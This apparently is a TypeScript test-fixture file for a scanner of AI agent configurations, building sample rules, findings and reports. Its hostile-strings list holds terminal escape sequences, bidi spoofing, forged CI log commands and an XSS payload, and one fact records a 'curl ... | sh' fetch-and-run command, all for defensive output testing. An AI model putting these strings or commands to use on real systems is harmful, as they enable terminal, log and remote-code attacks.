import type { Edge, Fact, FactKind, FactOf, FactValues } from "#model/fact.ts";
import { factId } from "#model/fact.ts";
import type { Finding } from "#model/finding.ts";
import { severities } from "#model/finding.ts";
import type { Location } from "#model/location.ts";
import { compareLocations, compareText } from "#model/location.ts";
import type { Problem } from "#model/problem.ts";
import type { RefusedRule, Report, ReportOptions, SourceExcerpt } from "#model/report.ts";
import type { RuleMetadata, Standard } from "#model/rule.ts";
import { lineHashes } from "#report/line-hash.ts";

/** Strings that each harm a careless reporter: one of every family. */
export const hostileStrings = [
  "\u001b[31mred\u001b[0m",
  "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
  "\u001b]52;c;ZXZpbA==\u0007",
  "\u009b31mC1",
  "line one\nline two",
  "return\rover",
  "back\bspace\u007f",
  "\u202Egnp.exe\u2066x\u2069",
  "\u200b\u200c\u200d\u2060\ufeffzero",
  "\u{e0041}\u{e0042}\u{e007f}tags",
  "vs\u{e0100}\u{e01ef}\ufe00",
  "lone\ud800surrogate\udc00",
  "line\u2028paragraph\u2029next\u0085",
  "%0A::error::forged",
  "::error file=x::forged",
  "\n::error file=x::forged",
  "##[set-output name=x]forged",
  "##vso[task.setvariable variable=x]forged",
  "[click](https://evil.example) [first](1)",
  "{0} {1} ${x} $& $1 %s %25 %ZZ",
  "__proto__",
  "constructor",
  "a,b:c;d=e",
  "<script>alert(1)</script> & \"quoted\" 'single' `code`",
  "C:\\windows\\..\\x",
  "\u0000nul",
  "漢字🙂é\u0301👩",
  "",
] as const;

/** Every character that must not reach a terminal, from the list that the design gives. */
export const forbiddenInTerminal =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e01ef}]|\p{Cs}/u;

export const plainOptions: ReportOptions = { color: false, width: 100, showSuppressed: false };

const rule = (id: string, pack: string, more: Partial<RuleMetadata>): RuleMetadata => ({
  id,
  pack,
  title: "Something is not as it should be",
  severity: "medium",
  securitySeverity: 5.5,
  confidence: "high",
  message: "Something is not as it should be.",
  help: "Change it.",
  cwe: [],
  standards: [],
  class: "portable",
  ...more,
});

export const sampleRules: readonly RuleMetadata[] = [
  rule("agent-approves-everything", "settings", {
    title: "Agent that asks nobody",
    severity: "critical",
    securitySeverity: 9.3,
    confidence: "very-high",
    message: "The setting '$SETTING' lets the agent run every command without asking. Nobody sees what it does.",
    help: "Remove the setting, and list the commands that may run without a question.",
    cwe: ["CWE-862", "cwe-250: Execution with Unnecessary Privileges"],
    standards: [
      { standard: "OWASP-ASI", id: "ASI03" },
      { standard: "OWASP-NHI", id: "NHI5" },
    ],
    class: "model-aware",
  }),
  rule("hardcoded-provider-secret", "credentials", {
    title: "Secret written into a file",
    severity: "high",
    securitySeverity: 8.2,
    message: "The key of '$PROVIDER' is written here. It outlives every review.",
    help: "Revoke the key and read a new one from the environment.",
    cwe: ["CWE-798"],
    standards: [{ standard: "OWASP-NHI", id: "NHI2" }],
  }),
  rule("mcp-server-unpinned", "mcp", {
    title: "Tool server without a version",
    message: "The server '$NAME' starts whatever version of '$PACKAGE' is newest. Its next release runs unread.",
    help: "Write the exact version behind the package name.",
    cwe: ["1357"],
    standards: [{ standard: "OWASP-MCP", id: "MCP04" }],
  }),
  rule("open-channel-trigger", "triggers", {
    title: "Channel that anyone may write to",
    severity: "low",
    securitySeverity: 3.1,
    confidence: "medium",
    message: "Anyone who can write to '$CHANNEL' can start the agent.",
    help: "Name the senders that may.",
  }),
  rule("Home.made_rule", "user", { severity: "info", securitySeverity: 0, title: "A rule of the user's own" }),
];

export const sampleStandards: readonly Standard[] = [
  {
    name: "CWE",
    title: "Common Weakness Enumeration",
    version: "4.18",
    organization: "MITRE",
    informationUri: "https://cwe.mitre.org/data/index.html",
    helpUri: "https://cwe.mitre.org/data/definitions/{n}.html",
    entries: [
      { id: "CWE-250", title: "Execution with Unnecessary Privileges" },
      { id: "CWE-798", title: "Use of Hard-coded Credentials" },
      { id: "CWE-862", title: "Missing Authorization" },
    ],
  },
  {
    name: "OWASP-NHI",
    title: "OWASP Non-Human Identities Top 10",
    version: "2025",
    organization: "OWASP",
    informationUri: "https://owasp.org/www-project-non-human-identities-top-10/2025/",
    releaseDate: "2025-01-01",
    entries: Array.from({ length: 10 }, (_, index) => ({ id: `NHI${index + 1}`, title: `Entry ${index + 1}` })),
  },
  {
    name: "OWASP-ASI",
    title: "OWASP Top 10 for Agentic Applications",
    version: "2026",
    organization: "OWASP",
    informationUri: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications-for-2026/",
    entries: [{ id: "ASI03", title: "Identity and Privilege Abuse" }],
  },
  {
    name: "UNUSED",
    title: "A list nobody refers to",
    version: "1",
    organization: "Nobody",
    informationUri: "https://example.org/unused",
    entries: [{ id: "U1", title: "Nothing" }],
  },
];

/** A place on one line; the columns are those of a region. */
export function place(path: string, line: number, [from, to]: readonly [number, number], message?: string): Location {
  return {
    path,
    region: { startLine: line, startColumn: from, endLine: line, endColumn: to },
    ...(message !== undefined && { message }),
  };
}

/** A finding of one of the sample rules; severity and confidence are the rule's unless given. */
export function finding(ruleId: string, location: Location, more: Partial<Finding> = {}): Finding {
  const of = sampleRules.find(({ id }) => id === ruleId);
  return {
    ruleId,
    severity: of?.severity ?? "medium",
    securitySeverity: of?.securitySeverity ?? 5,
    confidence: of?.confidence ?? "high",
    message: of?.message ?? "Something.",
    location,
    related: [],
    flow: [],
    facts: [],
    fingerprint: "0123456789abcdef0123456789abcdef",
    ...more,
  };
}

/** The excerpt that a scan would keep of a file of which `lines` matter. */
function excerpt(text: string, lines: Iterable<number>): SourceExcerpt {
  const wanted = new Set(lines);
  const all = text.split(/\r\n|\r|\n/);
  const near = new Set([...wanted].flatMap((line) => [-2, -1, 0, 1, 2].map((offset) => line + offset)));
  const kept = [...near].filter((line) => line >= 1 && line <= all.length).sort((left, right) => left - right);
  return {
    lines: new Map(kept.map((line) => [line, all[line - 1] ?? ""])),
    lineHashes: lineHashes(text, wanted),
  };
}

/** What a report is made of; everything else follows. */
export interface ReportParts {
  readonly findings?: readonly Finding[];
  readonly problems?: readonly Problem[];
  readonly refused?: readonly RefusedRule[];
  readonly facts?: readonly Fact[];
  readonly edges?: readonly Edge[];
  readonly rules?: readonly RuleMetadata[];
  readonly standards?: readonly Standard[];
  /** Path → text; a path without a text gets one that is long enough. */
  readonly texts?: ReadonlyMap<string, string>;
}

/** A report as a scan would make it. */
export function reportOf(parts: ReportParts): Report {
  const findings = [...(parts.findings ?? [])].sort(
    (left, right) => compareLocations(left.location, right.location) || compareText(left.ruleId, right.ruleId),
  );
  const problems = parts.problems ?? [];
  const open = findings.filter(({ suppressed }) => !suppressed);
  const count = (holds: (one: Finding) => boolean) => open.filter(holds).length;
  return {
    tool: { name: "countersign", version: "0.1.0" },
    rules: parts.rules ?? sampleRules,
    standards: parts.standards ?? sampleStandards,
    findings,
    problems,
    refused: parts.refused ?? [],
    facts: parts.facts ?? [],
    edges: parts.edges ?? [],
    summary: {
      files: 412,
      bytes: 3_456_789,
      analysed: 400,
      skipped: 12,
      partial: problems.some(({ partial }) => partial),
      byRule: Object.fromEntries(
        [...new Set(open.map(({ ruleId }) => ruleId))].map((id) => [id, count(({ ruleId }) => ruleId === id)]),
      ),
      bySeverity: Object.fromEntries(
        severities.map((severity) => [severity, count((one) => one.severity === severity)]),
      ) as Report["summary"]["bySeverity"],
      suppressed: findings.length - open.length,
      notShown: 0,
    },
    sources: sourcesOf(findings, parts.texts ?? new Map()),
  };
}

function sourcesOf(findings: readonly Finding[], texts: ReadonlyMap<string, string>): Map<string, SourceExcerpt> {
  const lines = new Map<string, Set<number>>();
  for (const { location } of findings) {
    const known = lines.get(location.path) ?? new Set();
    for (let line = location.region.startLine; line <= location.region.endLine; line++) known.add(line);
    lines.set(location.path, known);
  }
  return new Map(
    [...lines].map(([path, wanted]) => {
      const last = Math.max(...wanted);
      const text = texts.get(path) ?? Array.from({ length: last + 2 }, (_, index) => `line ${index} of it`).join("\n");
      return [path, excerpt(text, wanted)];
    }),
  );
}

/** A fact with the id it would get. */
export function fact<Kind extends FactKind>(
  kind: Kind,
  anchor: string,
  key: string,
  value: FactValues[Kind],
): FactOf<Kind> {
  return {
    id: factId(kind, anchor, key),
    kind,
    anchor,
    key,
    value,
    locations: [place("settings.json", 1, [1, 2])],
    confidence: "very-high",
    origin: "config",
  };
}

/** A report with every feature: several severities, related places, a flow, suppressions, problems, facts. */
export function richReport(): Report {
  const mcp = [
    "{",
    '  "mcpServers": {',
    '    "github": {',
    '\t\t"command": "npx",',
    '      "args": ["-y", "@acme/server-github"]',
    "    },",
  ].join("\n");
  const script = [
    'import { WebClient } from "@slack/web-api";',
    "",
    "const channel = request.body.channel;",
    "const target = resolve(channel);",
    "",
    "await slack.conversations.invite({",
    "  channel: target,",
    "  users: request.body.users,",
    "});",
  ].join("\n");
  return reportOf({
    texts: new Map([
      [".mcp.json", mcp],
      ["src/bots/invite.ts", script],
      [".claude/settings.json", '{\n  "permissions": {\n    "defaultMode": "bypassPermissions"\n  }\n}\n'],
    ]),
    findings: [
      finding("mcp-server-unpinned", place(".mcp.json", 5, [22, 43], "no version here"), {
        message:
          "The server 'github' starts whatever version of '@acme/server-github' is newest. Its next release runs with your credentials before anybody has read it.",
        related: [
          place(".mcp.json", 3, [5, 13], "this server"),
          place(".mcp.json", 4, [14, 19], "downloads and runs a package"),
          place("docs/setup.md", 12, [1, 9], "the same server is described with a version"),
        ],
      }),
      finding("agent-approves-everything", place(".claude/settings.json", 3, [20, 39]), {
        message: "The setting 'defaultMode' lets the agent run every command without asking. Nobody sees what it does.",
      }),
      finding(
        "open-channel-trigger",
        { path: "src/bots/invite.ts", region: { startLine: 6, startColumn: 7, endLine: 9, endColumn: 3 } },
        {
          message: "Anyone who can write to 'slack' can start the agent.",
          flow: [
            place("src/bots/invite.ts", 3, [17, 37], "the name of the channel comes from the request"),
            place("src/bots/invite.ts", 4, [16, 32], "it is looked up"),
            place("src/bots/invite.ts", 7, [12, 18], "users are invited into it"),
          ],
        },
      ),
      finding("hardcoded-provider-secret", place("src/bots/invite.ts", 1, [1, 5]), {
        message: "The key of 'slack' is written here. It outlives every review.",
        suppressed: { kind: "inline", reason: "a key of the test workspace" },
      }),
    ],
    problems: [
      ...Array.from({ length: 312 }, (_, index): Problem => problem("binary", `assets/${index}.png`)),
      ...["a/", "b/", "c/", "d/"].map((path) => problem("vendored", path)),
      {
        kind: "parse-error",
        path: "servers/broken.json",
        message: "Unexpected '}' where a value must stand.",
        region: { startLine: 7, startColumn: 3, endLine: 7, endColumn: 4 },
        partial: true,
      },
      {
        kind: "unused-ignore",
        path: "src/old.ts",
        message: "No finding of 'mcp-server-unpinned' on line 4.",
        partial: false,
      },
    ],
    ...surface(),
  });
}

/** A problem that is not partial. */
export function problem(kind: Problem["kind"], path: string, more: Partial<Problem> = {}): Problem {
  return { kind, path, message: `The file is ${kind}.`, partial: false, ...more };
}

function edge(from: Fact, relation: Edge["relation"], to: Fact): Edge {
  return { from: from.id, relation, to: to.id };
}

/** A small identity surface: two agents, a server, a skill, a workflow. */
export function surface(): { readonly facts: readonly Fact[]; readonly edges: readonly Edge[] } {
  const claude = fact("principal", "agent/claude-code", "claude-code", {
    type: "agent",
    product: "claude-code",
    model: "opus",
  });
  const refund = fact("principal", "agent/refund-bot", "refund-bot", {
    type: "agent",
    product: "openclaw",
    tools: "inherit",
  });
  const github = fact("principal", "server/github", "github", {
    type: "service",
    product: "mcp",
    runner: "npx",
    package: "@acme/server-github",
    pinned: false,
    transport: "stdio",
  });
  const bypass = fact("gate", "agent/claude-code", "permissions.defaultMode", {
    verdict: "auto",
    covers: "*",
    setting: "permissions.defaultMode = bypassPermissions",
  });
  const token = fact("credential", "server/github", "env:GITHUB_TOKEN", {
    source: "env",
    name: "GITHUB_TOKEN",
    lifetime: "long-lived",
    authority: "user",
    via: "env",
  });
  const shell = fact("grant", "agent/claude-code", "shell:npm publish", {
    system: "shell",
    actions: ["npm publish"],
    decision: "hardcoded",
    level: "write",
  });
  const everything = fact("grant", "agent/refund-bot", "stripe:*", {
    system: "stripe",
    actions: ["charges:write", "refunds:write"],
    decision: "hardcoded",
    level: "admin",
    wildcard: true,
  });
  const discord = fact("trigger", "agent/refund-bot", "chat:discord", {
    type: "chat",
    source: "discord",
    sender: "open",
  });
  const schedule = fact("trigger", "agent/refund-bot", "schedule:every 30m", {
    type: "schedule",
    source: "every 30m",
    sender: "internal",
  });
  const deploy = fact("effect", "agent/refund-bot", "deploy:production", { effect: "deploy", target: "production" });
  const fetched = fact("effect", "skill/pdf", "exec:curl", {
    effect: "exec",
    target: "curl",
    detail: "curl -fsSL https://example.org/x | sh",
    remote: true,
  });
  const pdf = fact("tool", "skill/pdf", "pdf", {
    name: "pdf",
    form: "skill",
    registration: "static",
    modelInvocable: true,
  });
  const job = fact("principal", "workflow/release/publish", "publish", { type: "service", product: "github-actions" });
  const unread = fact("opaque", "server/github", "remote-tools", { reason: "tools are listed at run time" });
  const facts: readonly Fact[] = [
    bypass,
    claude,
    refund,
    github,
    token,
    shell,
    everything,
    discord,
    schedule,
    deploy,
    fetched,
    pdf,
    job,
    unread,
  ];
  return {
    facts: facts.toSorted((left, right) => compareText(left.id, right.id)),
    edges: [
      edge(claude, "holds", shell),
      edge(claude, "uses", github),
      edge(bypass, "guards", claude),
      edge(github, "holds", token),
      edge(refund, "holds", everything),
      edge(refund, "reaches", deploy),
      edge(refund, "registers", pdf),
      edge(discord, "triggers", refund),
      edge(schedule, "triggers", refund),
      edge(pdf, "reaches", fetched),
    ],
  };
}

/** A report in which every string that can come from a scanned tree is hostile, in every combination that matters. */
export function hostileReport(): Report {
  const paths = hostileStrings.filter((text) => text !== "").map((text) => `dir ${text}/${text}.json`);
  const findings = paths.flatMap((path, index) => {
    const text = hostileStrings[index] ?? "";
    const at = place(path, 2, [3, 9], text);
    return [
      finding("mcp-server-unpinned", at, {
        message: `The server '${text}' is bad`,
        related: [place(path, 1, [1, 4], text), place(`other ${text}`, 9, [1, 2], text)],
        flow: [place(path, 1, [1, 2], text), at],
        facts: [`principal:server/${text}#${text}`],
      }),
      finding("agent-approves-everything", place(path, 2, [1, 5]), {
        message: text,
        suppressed: { kind: "configuration", reason: text },
      }),
    ];
  });
  const texts = new Map(
    paths.map((path, index) => [
      path,
      `first\n  ${(hostileStrings[index] ?? "").replaceAll(/[\r\n]/g, "")} second\nthird`,
    ]),
  );
  const problems = paths.map((path, index): Problem => ({
    kind: index % 2 === 0 ? "parse-error" : "bad-ignore",
    path,
    message: `Cannot read '${hostileStrings[index]}'`,
    partial: index % 4 === 0,
  }));
  const refused = paths.map((file, index): RefusedRule => ({
    file,
    isInTree: index % 2 === 0,
    message: `rule '${hostileStrings[index]}': it is not understood`,
    ...(index % 3 === 0 && { region: { startLine: 2, startColumn: 3, endLine: 2, endColumn: 4 } }),
  }));
  const { facts, edges } = surface();
  const hostileFacts = hostileStrings.flatMap((text) => [
    fact("principal", `agent/${text}`, text, { type: "agent", product: text }),
    fact("credential", `agent/${text}`, `env:${text}`, {
      source: "env",
      name: text,
      lifetime: "unknown",
      authority: "unknown",
    }),
    fact("trigger", text, `chat:${text}`, { type: "chat", source: text, sender: "allowlist", senders: [text] }),
  ]);
  return reportOf({ findings, texts, problems, refused, facts: [...facts, ...hostileFacts], edges });
}
